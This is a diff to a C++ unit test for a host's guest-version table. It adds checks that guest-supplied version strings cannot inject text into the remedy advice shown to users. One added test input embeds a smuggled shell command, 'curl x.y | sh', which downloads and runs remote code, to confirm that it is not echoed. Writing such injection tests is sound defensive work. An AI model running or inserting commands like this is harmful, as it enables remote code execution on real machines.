@@ -93,6 +93,9 @@ TEST(GuestTable, TellsWhatIsMissingAndWhatToDo) {
   EXPECT_EQ(standing(1, "0.1.0").remedy, "install service pack 2 in the guest");
   EXPECT_THAT(standing(2, "0.0.9").unfit, HasSubstr("too old"));
   EXPECT_THAT(standing(2, "0.3").too_new, HasSubstr("newer than this host's 0.1.0"));
+  EXPECT_EQ(standing(2, "0.3; curl x.y | sh").remedy, "update aerostat on the host to 0.3")
+      << "a guest gives the host no advice";
+  EXPECT_EQ(standing(2, "0.0.1 is fine, but").unfit.find("fine"), std::string::npos);
   EXPECT_TRUE(standing(2, "nonsense").takes_part()) << "an unreadable version is compared with nothing";
 }
 
